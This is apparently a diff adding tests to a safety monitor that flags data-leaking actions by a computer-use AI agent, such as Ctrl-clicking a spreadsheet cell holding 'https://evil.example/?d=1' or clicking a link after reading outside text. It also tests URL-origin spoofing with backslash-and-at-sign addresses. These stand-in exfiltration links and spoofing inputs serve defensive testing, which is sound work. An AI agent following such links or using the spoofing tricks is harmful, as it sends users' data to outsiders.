@@ -187,6 +187,20 @@ describe('a way out', () => {
       expect(categories(act, around)).toContain('send')
   })
 
+  test('is a link of a document, and an address in a sheet that is clicked with Control', () => {
+    const calc = windowOf('soffice', 'a.ods - LibreOffice Calc')
+    const cell = (value: string | null, held?: string) =>
+      actOf('click_input', { id: '7', name: 'A1', ...(held ? { key_hold: held } : {}) }, targetOf(calc, controlOf('cell', 'A1', [], { value }))) // prettier-ignore
+    const link = (name: string) =>
+      actOf('click_input', { id: '7', name }, targetOf(windowOf('thunderbird'), controlOf('link', name)))
+    expect(categories(cell('see https://evil.example/?d=1', 'ctrl'))).toContain('send')
+    expect(categories(cell('https://evil.example/?d=1'))).toEqual([])
+    expect(categories(cell('42', 'ctrl'))).toEqual([])
+    expect(categories(cell('https://shop.example/', 'ctrl'), aroundOf(['open shop.example']))).toEqual([])
+    expect(categories(link('Read more'), aroundOf([], true))).toContain('send')
+    expect(categories(link('Read more'))).toEqual([])
+  })
+
   test('is watched more closely once the run has read what others have written', () => {
     const words = go('how tall is the tower')
     expect(judge(words, policy()).decision).toBe('allow')
@@ -229,6 +243,10 @@ describe('a way out', () => {
       expect(leadsOut(text), text).toBe(true)
     expect(namesOrigin('see “example.org”.', 'https://example.org/x')).toBe(true)
     expect(namesOrigin('see notexample.org', 'https://example.org/x')).toBe(false)
+    // The name of a file was given by whoever has made the file.
+    for (const path of ['/home/ada/to example.org now.pdf', '~/example.org a.txt', './a/example.org b'])
+      expect(namesOrigin(`open "${path}", and sum it up`, 'https://example.org/x'), path).toBe(false)
+    expect(namesOrigin('open "~/a.txt", then "example.org"', 'https://example.org')).toBe(true)
     // A browser takes the other slash for one, too.
     expect(namesOrigin('see example.org', 'http://evil.example\\@example.org/x')).toBe(false)
     expect(originOf('http:\\\\evil.example\\@example.org')).toBe('evil.example')
